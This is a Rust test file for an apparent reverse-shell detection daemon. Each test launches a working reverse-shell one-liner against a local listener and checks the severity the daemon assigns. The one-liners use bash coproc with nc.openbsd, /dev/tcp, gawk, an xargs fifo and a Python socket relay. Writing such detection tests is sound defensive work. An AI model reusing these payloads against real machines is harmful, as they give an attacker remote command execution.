//! The relay is beside the commands that come in, not above them: somebody else runs them for it.

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::relayed::{is_on, prove_popen};
use crate::common::victim::Victim;
use crate::common::wait_for;
use crate::require;

/// A loop of bash's, whose commands' answers go out through `relay`.
fn bash(line: &str, relay: &str, severities: &[&str]) {
    require!("bash", "nc.openbsd");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = line.replace("PORT", &attacker.port().to_string());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let found = prove_popen(Daemon::shared(), attacker.accept(), victim, attacker.port(), relay);
    assert!(severities.contains(&found.severity()), "{}", found.brief());
}

#[test]
fn client_as_a_coprocess() {
    let line = "coproc nc.openbsd 127.0.0.1 PORT; \
        while read l <&${COPROC[0]}; do eval \"$l\" >&${COPROC[1]} 2>&1; done";
    bash(line, "nc.openbsd", &["LOW"]);
}

/// It reads what each command prints, and hands it on to its client.
#[test]
fn gawk_with_a_client() {
    require!("gawk", "nc.openbsd");
    Daemon::shared();
    let attacker = Listener::tcp();
    let text = "BEGIN{c=\"nc.openbsd 127.0.0.1 PORT\"; while((c|&getline l)>0){l=l \"; sleep 0.1\"; \
        while((l|getline o)>0) print o|&c; close(l); fflush(c)}}";
    let victim = Victim::start("gawk", &[&text.replace("PORT", &attacker.port().to_string())]);
    let found = prove_popen(Daemon::shared(), attacker.accept(), victim, attacker.port(), "nc.openbsd");
    assert_eq!(found.severity(), "LOW", "{}", found.brief());
}

/// The loop reads what each command prints, and hands it on.
#[test]
fn client_of_a_loop_that_collects() {
    let line = "coproc nc.openbsd 127.0.0.1 PORT; \
        while read l <&${COPROC[0]}; do echo \"$($l; sleep 0.1)\" >&${COPROC[1]}; done";
    bash(line, "nc.openbsd", &["LOW"]);
}

/// Each answer goes through a `cat` of its own, whose stdout the socket is.
#[test]
fn a_filter_onto_the_socket() {
    let line =
        "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -u5 l; do eval \"$l; sleep 0.1\" 2>&1 | cat >&5; done";
    bash(line, "cat", &["LOW"]);
}

/// Each command is run by a shell of its own, which the socket is the stdout of.
#[test]
fn a_shell_for_each_command() {
    let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; \
        while read -u5 l; do bash -c 'echo \"$($0 $1; sleep 0.1)\"' $l >&5; done";
    bash(line, "bash", &["LOW"]);
}

/// It waits for longer than servers take to do what they are told.
#[test]
fn one_that_takes_its_time() {
    let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -u5 l; do sleep 3.2; echo \"$($l; sleep 0.1)\" >&5; done";
    bash(line, "bash", &["LOW"]);
}

/// Commands are done by what is no shell: row 5 where it starts after the connection, else they are row 6.
#[test]
fn xargs_on_a_fifo() {
    require!("bash", "nc.openbsd");
    Daemon::shared();
    let (attacker, directory) = (Listener::tcp(), tempfile::tempdir().unwrap());
    let port = attacker.port();
    let line = format!(
        "cd {}; mkfifo f; nc.openbsd 127.0.0.1 {port} <f | \
         xargs -I{{}} sh -c '{{}} 2>&1; sleep 0.1' >f",
        directory.path().display()
    );
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let mut session = attacker.accept();
    for (line, answer) in [("id -u", "0\n"), ("uname -s", "Linux\n")] {
        session.send(&format!("{line}\n"));
        session.hear(answer);
    }
    let found = wait_for("both commands", || {
        let records = Daemon::shared().records();
        records.into_iter().rfind(|record| {
            is_on(record, &[port])
                && [5, 6].contains(&record.row())
                && [["id", "-u"], ["uname", "-s"]].iter().all(|args| record.ran(args))
        })
    });
    let severity = if found.row() == 5 { "HIGH" } else { "LOW" };
    assert_eq!((found.severity(), found.text("Tether_Kind")), (severity, "relayed"), "{}", found.brief());
    drop(session);
    drop(victim);
}

/// A relay that is no network tool, and a loop that is no shell which waits for commands.
#[test]
fn a_loop_on_two_pipes() {
    require!("/usr/bin/python3");
    Daemon::shared();
    let attacker = Listener::tcp();
    let text = "import os,socket,select
a,b=os.pipe(),os.pipe()
if os.fork()==0:
    os.close(a[0]); os.close(b[1])
    s=socket.create_connection(('127.0.0.1',PORT))
    while True:
        r,_,_=select.select([s,b[0]],[],[])
        if s in r:
            d=s.recv(999)
            if not d: os._exit(0)
            os.write(a[1],d)
        if b[0] in r:
            s.sendall(os.read(b[0],999))
os.dup2(a[0],0); os.dup2(b[1],1)
for f in a+b: os.close(f)
os.execv('/bin/sh',['sh','-c','while read l; do eval \"$l; sleep 0.1\"; done'])";
    let text = text.replace("PORT", &attacker.port().to_string()).replace("\\\"", "\"");
    let victim = Victim::start("/usr/bin/python3", &["-c", &text]);
    let found = prove_popen(Daemon::shared(), attacker.accept(), victim, attacker.port(), "python3");
    assert_eq!(found.severity(), "MEDIUM", "{}", found.brief());
}
